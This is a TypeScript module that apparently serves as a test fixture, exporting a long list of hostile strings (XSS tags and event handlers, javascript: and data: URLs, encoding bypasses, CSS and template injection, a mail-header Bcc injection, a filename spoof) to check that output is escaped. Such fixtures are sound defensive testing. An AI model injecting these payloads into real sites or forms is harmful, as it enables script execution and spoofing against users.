/** Script of hostile texts, and host of their URLs: both contain `evil`. */
const RUN = "alert('evil')";
const HOST = 'evil.example';

/** Elements that execute or load something when a text is inserted as HTML. */
const ELEMENTS: readonly string[] = [
  `<script>${RUN}</script>`,
  `<ScRiPt src=//${HOST}/x.js></sCrIpT>`,
  `</script><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `--><script>${RUN}</script><!--`,
  `<![endif]--><script>${RUN}</script>`,
  `]]><script>${RUN}</script>`,
  `<img src=x onerror=${RUN}>`,
  `"><img src=x onerror=${RUN}>`,
  `'><img src=x onerror=${RUN}>`,
  `<svg onload=${RUN}>`,
  `"><svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y="20">evil</text></a></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<iframe src="http://${HOST}/"></iframe>`,
  `<object data="//${HOST}/x"></object><embed src="//${HOST}/x">`,
  `<base href="http://${HOST}/">`,
  `<meta http-equiv=refresh content="0;url=http://${HOST}/">`,
  `<link rel=stylesheet href="http://${HOST}/x.css">`,
  `<style>@import url(http://${HOST}/x.css);</style>`,
  `<form action="javascript:${RUN}"><button>evil</button></form>`,
  `<details open ontoggle=${RUN}>evil</details>`,
  `<input autofocus onfocus=${RUN}>`,
  `<body onload=${RUN}>`,
  `<video autoplay><source src="//${HOST}/x.mp4" onerror=${RUN}></video>`,
  `<a href="javascript:${RUN}">evil</a>`,
  `<a href=" &#1; javascript:${RUN}">evil</a>`,
  `<a href="https://studio.example/" onclick="${RUN}">evil</a>`,
  `<p style="background:url(http://${HOST}/x)" onclick="${RUN}">evil</p>`,
  `<span data-color="red;background:url(http://${HOST}/)" data-align="x" onclick=${RUN}>evil</span>`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;img src=x onerror=${RUN}&#62;`,
  `<\u0000script>${RUN}</script>`,
  `\uD800<script>${RUN}</script>`,
  `＜script＞${RUN}＜/script＞`,
];

/** Texts that close the surrounding attribute. */
const ATTRIBUTES: readonly string[] = [
  `" onmouseover="${RUN}`,
  `' onmouseover='alert("evil")`,
  `evil" autofocus onfocus="${RUN}" x="`,
  `\` onmouseover=${RUN} `,
  `x onfocus=${RUN} autofocus`,
  `\\" onerror=${RUN} x=\\"`,
  `&quot; onmouseover=&quot;${RUN}`,
  `evil\r\nonmouseover=${RUN}`,
];

/** URLs that execute code, or lead elsewhere than they seem to. */
const ADDRESSES: readonly string[] = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  ` java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `\uFEFFjavascript:${RUN}`,
  `javascript&colon;${RUN}`,
  `&#106;avascript:${RUN}`,
  `&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:${RUN}`,
  `javascript://${HOST}/%0a${RUN}`,
  `feed:javascript:${RUN}`,
  'vbscript:msgbox("evil")',
  `data:text/html,<script>${RUN}</script>`,
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgnZXZpbCcpPC9zY3JpcHQ+',
  `data:application/xhtml+xml,<script xmlns="http://www.w3.org/1999/xhtml">${RUN}</script>`,
  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"/>`,
  `data:image/svg+xml;x="' onload='${RUN}`,
  `//${HOST}/x`,
  `\\\\${HOST}\\x`,
  `/\\${HOST}/x`,
  `/\t/${HOST}/x`,
  `https:${HOST}/x`,
  `http:/${HOST}/x`,
  `blob:http://${HOST}/x`,
  `file://${HOST}/x`,
];

/** Values that would style more than intended, or load something. */
const STYLES: readonly string[] = [
  `red;background:url(http://${HOST}/)`,
  `red;}body{background:url(http://${HOST}/)}`,
  `red}</style><script>${RUN}</script>`,
  `expression(${RUN})`,
  `url(javascript:${RUN})`,
  `url(http://${HOST}/x.png)`,
  `u\\72l(http://${HOST}/x.png)`,
  `red/**/;/**/background-image:url(//${HOST}/x)`,
  `#fff;-moz-binding:url(http://${HOST}/x#y)`,
  `#fff;behavior:url(http://${HOST}/x.htc)`,
  `@import "http://${HOST}/x.css";`,
  `1px;position:fixed;inset:0;content:"evil"`,
  `var(--x,url(http://${HOST}/x))`,
  `var(--evil)`,
  `rgb(0,0,0);background:url(http://${HOST}/)`,
  `linear-gradient(red,blue),url(http://${HOST}/x)`,
  `image-set("http://${HOST}/x" 1x)`,
  `color: red; background: url(http://${HOST}/x)`,
];

/** Texts that templates, mail headers and parsers misinterpret. */
const OTHERS: readonly string[] = [
  `{{constructor.constructor("${RUN}")()}}`,
  `{{email|<script>${RUN}</script>}}`,
  `\${${RUN}}`,
  `evil\r\nBcc: all@${HOST}`,
  '\u202Eevil\u2066gpj.exe',
  `#${RUN}`,
];

/** Texts that would execute a script, load external content, or style their surroundings if they were printed unescaped. */
export const HOSTILE_TEXTS: readonly string[] = [
  ...ELEMENTS,
  ...ATTRIBUTES,
  ...ADDRESSES,
  ...STYLES,
  ...OTHERS,
];
